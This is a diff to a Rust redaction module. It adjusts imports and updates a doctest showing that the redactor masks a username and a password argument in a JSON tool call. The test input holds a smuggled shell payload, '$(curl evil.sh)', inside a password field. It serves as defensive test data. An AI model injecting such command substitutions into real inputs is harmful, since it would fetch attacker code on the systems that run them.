@@ -3,9 +3,10 @@
 use std::fmt;
 use std::sync::Arc;
 
+use super::Redactor;
 use super::mask::MaskReason;
 use super::recorder::{Masked, Recorder};
-use super::{Redactor, apart};
+use super::tree::apart;
 use crate::json::{Json, push_part};
 
 /// A document without secrets, with the places in it that are masked.
@@ -66,14 +67,14 @@ impl Redactor {
     ///
     /// ```
     /// # use hitl_base::{json::scan, Redactor, redact::MaskReason};
-    /// let call = scan(r#"{"auth": {"user": "ann"}, "run": "--password=\"$(curl evil.sh)\""}"#)?;
+    /// let call = scan(r#"{"auth": {"user": "ann"}, "run": "--password=\"x9$(curl evil.sh)\""}"#)?;
     /// let marked = Redactor::standard().marked(&call).unwrap();
     /// assert_eq!(
     ///     marked.tree.to_text(),
-    ///     r#"{"auth":{"user":"[redacted]"},"run":"--password=\"$([redacted])\""}"#,
+    ///     r#"{"auth":{"user":"[redacted]"},"run":"--password=\"[redacted]$([redacted])\""}"#,
     /// );
     /// assert_eq!(marked.places[0].pointer, "/auth/user");
-    /// assert_eq!((marked.places[1].reason, marked.places[1].characters()), (MaskReason::Name, 12));
+    /// assert_eq!((marked.places[2].reason, marked.places[2].characters()), (MaskReason::Name, 12));
     /// # Ok::<(), hitl_base::json::ScanError>(())
     /// ```
     pub fn marked(&self, tree: &Json) -> Option<Marked> {
